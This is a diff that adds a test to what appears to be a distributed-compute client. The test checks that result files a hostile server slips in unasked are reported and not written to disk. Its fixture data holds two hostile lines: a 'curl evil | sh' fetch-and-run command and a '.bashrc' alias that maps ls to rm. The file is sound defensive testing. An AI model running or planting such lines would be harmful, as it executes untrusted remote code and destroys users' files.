@@ -216,6 +216,28 @@ def test_hostile_result_names_are_refused_and_nothing_is_written_outside(
     assert "refused unsafe result file name(s)" in result.stderr
 
 
+def test_result_files_nobody_asked_for_are_named_and_not_written(
+    tmp_path: Path, work: Path
+) -> None:
+    extra = {"module.sh": b"curl evil | sh\n", ".bashrc": b"alias ls=rm\n"}
+    broker = make_broker(inject_result_files=extra)
+    with DistcompServer(broker, TOKEN) as hostile, running_agent(tmp_path, hostile.url):
+        config = workflow_config(tmp_path, hostile.url)
+        out = work / "module"
+        result = invoke(
+            config,
+            *submit_args("partial.sh", results=["one.txt"], extra=["--out-dir", str(out)]),
+            cwd=work,
+        )
+    assert result.exit_code == 65
+    assert (out / "one.txt").read_text() == "one\n"
+    assert sorted(p.name for p in out.iterdir()) == sorted(["one.txt", STDOUT_NAME, STDERR_NAME])
+    summary = summary_of(result.stdout)
+    assert sorted(summary["unrequested"]) == [".bashrc", "module.sh"]
+    assert summary["refused"] == []
+    assert "nobody asked for: 'module.sh', '.bashrc'" in result.stderr
+
+
 def test_legacy_positional_form_runs_the_same_flow(tmp_path: Path, work: Path) -> None:
     with serve_process() as server, running_agent(tmp_path, server.url):
         completed = run_tool(
